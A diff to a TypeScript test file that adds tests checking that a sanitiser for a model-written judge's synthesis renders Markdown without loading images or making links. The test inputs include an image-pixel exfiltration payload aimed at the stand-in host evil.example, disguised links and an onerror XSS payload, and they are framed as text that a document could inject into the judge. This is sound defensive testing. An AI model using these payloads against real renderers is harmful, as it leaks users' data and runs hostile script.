@@ -1,6 +1,6 @@
 /** Texts of models in documents of ours: they are shown as they are, and open nothing. */
 import { describe, expect, test } from "vitest";
-import { inline, listItem, paragraphs, prose } from "#workflow-kit/markdown";
+import { inline, listItem, paragraphs, prose, subdocument } from "#workflow-kit/markdown";
 import { renderMarkdown } from "../../support/markdown";
 
 /** What a reader sees of rendered Markdown, its paragraphs parted by one line break. */
@@ -71,4 +71,26 @@ describe("a field that a model wrote in Markdown", () => {
 test("paragraphs of a list's entry are under its text", () => {
   const list = renderMarkdown(listItem("10.", paragraphs("One.\nTwo.\n\n\nThree.")));
   expect(list.replaceAll("\n", "")).toBe('<ol start="10"><li><p>One.</p><p>Two.</p><p>Three.</p></li></ol>');
+});
+
+describe("a judge's synthesis in the report", () => {
+  test("keeps its structure under our headings, and what it quotes", () => {
+    const text = "# Holding\n\n- It **binds** […], art. 5 [sic].\n";
+    expect(subdocument(text)).toBe("### Holding\n\n- It **binds** […], art. 5 [sic].");
+  });
+
+  test.each([
+    "![see](//evil.example/pixel?q=secret)",
+    "[the statute](//evil.example/)",
+    String.raw`\\[the statute](//evil.example/)`,
+    "[the statute][1] ![pixel][1] [1]\n\n[1]: //evil.example",
+    "<img src=x onerror=alert(1)>",
+    "a <https://evil.example> b",
+  ])("loads and links nothing that a document talked the judge into: %s", (text) => {
+    expect(renderMarkdown(text)).toMatch(/<(?:a|img) /);
+    // A bare `https:` address remains a link, which shows where it leads.
+    expect(renderMarkdown(subdocument(text)).replaceAll(/<a href="https:[^>]*>https:/gu, "")).not.toMatch(
+      /<(?:a|img) /,
+    );
+  });
 });
